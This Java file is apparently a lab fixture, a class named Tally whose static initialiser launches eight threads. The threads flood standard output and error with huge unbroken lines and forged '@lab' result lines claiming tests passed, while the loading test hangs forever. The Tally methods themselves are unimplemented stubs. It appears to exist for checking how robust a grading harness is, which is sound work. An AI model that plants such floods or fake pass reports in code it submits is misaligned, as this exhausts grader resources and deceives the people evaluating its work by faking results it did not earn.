package lab.tally;

import java.util.List;
import java.util.concurrent.locks.LockSupport;

/**
 * Attack: an output flood. Eight daemon threads print as fast as they can, on standard output and
 * standard error, long lines without a line break and lines that imitate the result channel,
 * hoping to fill the grader's memory or bury the real reports. The first test to load the class
 * never gets past it, so the flood has all the time it wants.
 */
public final class Tally {

    static {
        for (int i = 0; i < 8; i++) {
            Thread flood = new Thread(new Flood(i % 2 == 0), "flood-" + i);
            flood.setDaemon(true);
            flood.start();
        }
        waitForever();
    }

    /** Keeps the first test here while the flood runs, so that the tests cannot end first. */
    private static void waitForever() {
        while (true) {
            LockSupport.park();
        }
    }

    /** A class of its own: code of Tally would wait for Tally's static initialiser, which never ends. */
    private static final class Flood implements Runnable {

        private final boolean toErr;

        Flood(boolean toErr) {
            this.toErr = toErr;
        }

        @Override
        public void run() {
            String chunk = "x".repeat(64 * 1024);
            while (true) {
                (toErr ? System.err : System.out).print(chunk);
                System.out.println("@lab:0000 {\"event\":\"result\",\"id\":\"x\",\"status\":\"pass\"}");
            }
        }
    }

    public Tally() {
    }

    public void add(int amount) {
        throw new UnsupportedOperationException("TODO: add the amount and remember it");
    }

    public int total() {
        throw new UnsupportedOperationException("TODO: return the total");
    }

    public List<Integer> history() {
        throw new UnsupportedOperationException("TODO: return a copy of the history");
    }
}
